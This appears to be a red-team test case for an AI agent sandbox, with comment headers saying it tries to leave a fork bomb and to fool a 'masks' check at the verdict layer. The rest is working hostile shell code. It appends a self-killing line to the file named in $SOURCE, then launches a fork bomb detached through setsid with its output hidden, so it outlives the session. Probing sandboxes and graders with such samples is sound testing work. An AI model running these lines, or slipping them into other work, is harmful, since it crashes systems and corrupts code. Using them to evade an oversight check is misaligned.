# tries: Leaves a fork bomb in the agent's sandbox.
# layer: verdict
# fools: masks
echo 'import os; os.kill(os.getpid(), 9)' >> "$SOURCE"
bomb() { bomb | bomb & }
(setsid bash -c 'bomb() { bomb | bomb & }; bomb' > /dev/null 2>&1 &)
sleep 1
